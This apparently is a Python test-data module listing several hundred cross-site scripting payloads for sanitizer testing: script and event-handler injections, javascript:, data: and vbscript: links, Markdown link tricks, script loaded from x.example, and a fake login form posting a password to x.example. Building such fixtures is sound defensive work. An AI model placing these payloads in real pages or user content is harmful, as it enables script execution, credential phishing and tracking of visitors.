"""Texts that would run something in a reader's browser if a page let them through: tags, handlers and addresses crossed."""

from collections.abc import Iterator
from itertools import product

TAGS = (
    "a", "audio", "b", "base", "body", "button", "details", "div", "embed", "form", "frameset", "h2", "iframe", "img",
    "input", "isindex", "link", "marquee", "math", "meta", "object", "p", "select", "source", "span", "style", "svg",
    "table", "td", "template", "textarea", "title", "video", "x-own",
)  # fmt: skip
HANDLERS = ("onload", "onerror", "onclick", "ONMOUSEOVER", "onfocus autofocus", "onanimationstart", "ontoggle")
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript&colon;alert(1)", "&#1;javascript:alert(1)",
    "javascript&#58;alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://x/1",
    "feed:javascript:alert(1)", "view-source:x", "livescript:x", "mocha:x", "jar:x", "javascript:%61lert(1)",
)  # fmt: skip
RAW = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js></SCRIPT>", "<script\n>alert(1)</script >", "<<script>x",
    "<scr<script>ipt>alert(1)</script>", "<script>alert(1)", "</script><script>alert(1)</script>", "<noscript><p title='",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<style>@import 'https://x.example';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://x.example/>", "<link rel=stylesheet href=https://x.example/x.css>", "<a href=x target=_blank>x</a>",
    "<form action=https://x.example><input name=password><button>Log in</button></form>", "<textarea><img src=x onerror=1>",
    "<template><script>alert(1)</script></template>", "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>",
    "<img src=x:x onerror='alert(1)'//", "<img/src=`x`onerror=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src='x' style='x:expression(alert(1))'>", "<div style='background:url(https://x.example)'>x</div>",
    "<p style=position:fixed;inset:0>covers</p>", "<!--><script>alert(1)</script>-->", "<!--[if IE]><script>x</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<!ENTITY x '<script>'>",
    "<title><img src=x onerror=alert(1)></title>", "<x onclick=alert(1)>x</x>", "<a onclick=alert(1) href='#'>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>", "<video><source onerror=alert(1)></video>",
    "<a href='https://x.example' ping='https://y.example'>x</a>", "<img srcset='https://x.example/x.png 1x'>",
    "<table background=https://x.example/x.png><td>x</table>", "<input type=image src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```", "``` {.x onclick=alert(1)}\nx\n```", "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))", "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x][y]\n\n[y]: javascript:alert(1)",
    "[x](x \"onmouseover=alert(1)\")", "[x](x '\"onmouseover=alert(1) y=\"')", "[x](\"onmouseover=alert(1))",
    "![x](javascript:alert(1))", "![x\"onerror=\"alert(1)](x)", "![x](x\"onerror=\"alert(1))", "![x](data:image/svg+xml,x)",
    "<javascript:alert(1)>", "<https://x.example/\"onmouseover=alert(1)>", "[x](https://x.example/\"onclick=\"alert(1))",
    "# x {onclick=alert(1)}", "## x {: onclick=alert(1) }", "x\n{: onclick=alert(1) }", "[x](y){: onclick=alert(1) }",
    "a | b {onclick=x}\n--|--\n<script>1</script> | <img src=x onerror=1>", "[^x]\n\n[^x]: <script>alert(1)</script>",
    "[^\"><script>]\n\n[^\"><script>]: x", "*[x]: \"><script>alert(1)</script>\n\nx", "*[x]: \" onclick=\"alert(1)\n\nx",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#0;<script>&#8;alert(1)&#x1b;",
    "a&#8;b&#11;c&#12;d&#x1f;e&#x7f;f&#x85;g&#x9f;h&#xfffe;i&#x2028;j", "\\<script>alert(1)\\</script>",
    "<{filename}/x.md>", "[x]({filename}\" onclick=\"alert(1))", "[x]({static}/a%22%20onclick=%22alert(1).png)",
    "![x]({static}/images/%22%20onerror=%22alert(1))", "[x]({javascript}:alert(1))", "[x]({filename}/%3Cscript%3E.md)",
    "Term\n:   <script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>", "\ufeff<script>x</script>",
    "<script>\n\nalert(1)\n\n</script>", "<div>\n\n<script>alert(1)</script>\n\n</div>", "<div markdown=1 onclick=x>*x*</div>",
    "\u0001wzxhzdk:0\u0002", "\x02amp\x03", "STXwzxhzdk:1ETX", "<h2 id=main>x</h2>", "<li id=content>x</li>",
)  # fmt: skip


def list_payloads() -> Iterator[str]:
    """Yield a few hundred of them, each different."""
    yield from RAW
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} {handler}=alert(1)>x</{tag}>"
    for address in ADDRESSES:
        yield f'<a href="{address}">x</a>'
        yield f"<a href='{address}'>x</a> <img alt=x src='{address}'>"
        yield f"[x]({address})"
        yield f"![x](<{address}>)"
        yield f"[x][1]\n\n[1]: {address}"
